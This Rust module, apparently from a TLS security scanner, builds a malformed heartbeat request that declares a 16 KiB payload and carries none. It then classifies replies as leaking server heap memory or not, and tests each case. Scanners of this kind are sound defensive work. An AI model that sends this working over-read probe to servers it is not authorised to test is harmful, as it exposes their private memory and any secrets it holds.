//! Heartbeat request and response handling (RFC 6520).
//!
//! The request declares a 16 KiB payload but carries none. A patched server
//! silently drops it; a vulnerable one copies 16 KiB of its own heap into
//! the response.

use crate::error::{TlsError, TlsResult};
use crate::scanner::HeartbeatReply;
use crate::tls::record::{read_record, ContentType, Record};
use tokio::io::AsyncRead;

const HEARTBEAT_REQUEST: u8 = 1;
const HEARTBEAT_RESPONSE: u8 = 2;

/// Payload length claimed in the request.
pub const CLAIMED_PAYLOAD_LEN: u16 = 0x4000;

/// Build the malformed heartbeat request record.
pub fn heartbeat_request(version: u16) -> Vec<u8> {
    let [hi, lo] = CLAIMED_PAYLOAD_LEN.to_be_bytes();
    Record::new(ContentType::Heartbeat, version, vec![HEARTBEAT_REQUEST, hi, lo]).encode()
}

/// Read records until a heartbeat response or alert shows up.
pub async fn read_heartbeat_response<R>(reader: &mut R) -> TlsResult<HeartbeatReply>
where
    R: AsyncRead + Unpin,
{
    loop {
        let record = read_record(reader).await?;
        match record.content_type {
            ContentType::Heartbeat => return classify_response(&record.payload),
            ContentType::Alert => return Err(record.into_alert_error()),
            _ => continue,
        }
    }
}

/// Decide whether a heartbeat response leaked memory.
///
/// A response can be split over several records when the leak exceeds the
/// record size limit, so any payload beyond what was sent counts even if the
/// first record holds less than the declared length.
pub fn classify_response(payload: &[u8]) -> TlsResult<HeartbeatReply> {
    let [msg_type, hi, lo, rest @ ..] = payload else {
        return Err(TlsError::MalformedRecord("short heartbeat message".to_string()));
    };
    if *msg_type != HEARTBEAT_RESPONSE {
        return Err(TlsError::UnexpectedMessage(format!(
            "heartbeat message type {}",
            msg_type
        )));
    }

    let declared_len = u16::from_be_bytes([*hi, *lo]) as usize;
    // the request carried no payload, so a correct echo declares nothing
    if declared_len == 0 {
        return Err(TlsError::HeartbeatEchoed);
    }
    if rest.is_empty() {
        return Err(TlsError::HeartbeatTruncated {
            declared: declared_len,
            actual: rest.len(),
        });
    }

    Ok(HeartbeatReply {
        declared_len,
        received_len: rest.len(),
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// Heartbeat response record declaring `declared` bytes and carrying `actual` plus padding.
    pub(crate) fn heartbeat_response(version: u16, declared: u16, actual: usize) -> Vec<u8> {
        let mut payload = vec![HEARTBEAT_RESPONSE];
        payload.extend_from_slice(&declared.to_be_bytes());
        payload.extend(std::iter::repeat(0x5a).take(actual + 16));
        Record::new(ContentType::Heartbeat, version, payload).encode()
    }

    #[test]
    fn test_request_structure() {
        let request = heartbeat_request(0x0302);
        assert_eq!(request, vec![24, 3, 2, 0, 3, 1, 0x40, 0x00]);
    }

    #[test]
    fn test_leaking_response_is_reply() {
        let record = heartbeat_response(0x0303, CLAIMED_PAYLOAD_LEN, 0x4000);
        let reply = classify_response(&record[5..]).unwrap();
        assert_eq!(reply.declared_len, 0x4000);
        assert_eq!(reply.received_len, 0x4000 + 16);
    }

    #[test]
    fn test_leak_split_at_record_limit() {
        // 3 header bytes + 16381 leaked bytes fill one 16 KiB record; the rest follows later
        let mut payload = vec![HEARTBEAT_RESPONSE, 0x40, 0x00];
        payload.extend(std::iter::repeat(0x5a).take(16381));
        assert_eq!(payload.len(), 16384);
        let reply = classify_response(&payload).unwrap();
        assert_eq!(reply.declared_len, 0x4000);
        assert_eq!(reply.received_len, 16381);
    }

    #[test]
    fn test_single_leaked_byte_is_a_leak() {
        let reply = classify_response(&[HEARTBEAT_RESPONSE, 0x40, 0x00, 0xaa]).unwrap();
        assert_eq!(
            reply,
            HeartbeatReply {
                declared_len: 0x4000,
                received_len: 1,
            }
        );
    }

    #[test]
    fn test_correct_echo_is_not_a_leak() {
        let record = heartbeat_response(0x0303, 0, 0);
        assert!(matches!(
            classify_response(&record[5..]),
            Err(TlsError::HeartbeatEchoed)
        ));
    }

    #[test]
    fn test_malformed_responses() {
        assert!(matches!(
            classify_response(&[2, 0]),
            Err(TlsError::MalformedRecord(_))
        ));
        assert!(matches!(
            classify_response(&[1, 0x40, 0x00, 0xaa]),
            Err(TlsError::UnexpectedMessage(_))
        ));
        assert!(matches!(
            classify_response(&[2, 0x40, 0x00]),
            Err(TlsError::HeartbeatTruncated { declared: 0x4000, actual: 0 })
        ));
    }

    #[tokio::test]
    async fn test_read_skips_other_records() {
        let mut bytes = Record::new(ContentType::Handshake, 0x0303, vec![14, 0, 0, 0]).encode();
        bytes.extend(heartbeat_response(0x0303, 64, 64));
        let mut reader = &bytes[..];
        let reply = read_heartbeat_response(&mut reader).await.unwrap();
        assert_eq!(reply.declared_len, 64);
    }

    #[tokio::test]
    async fn test_read_alert() {
        let bytes = Record::new(ContentType::Alert, 0x0303, vec![2, 10]).encode();
        let mut reader = &bytes[..];
        assert!(matches!(
            read_heartbeat_response(&mut reader).await,
            Err(TlsError::Alert { .. })
        ));
    }

    #[tokio::test]
    async fn test_read_eof() {
        let mut reader: &[u8] = &[];
        assert!(matches!(
            read_heartbeat_response(&mut reader).await,
            Err(TlsError::Closed)
        ));
    }
}
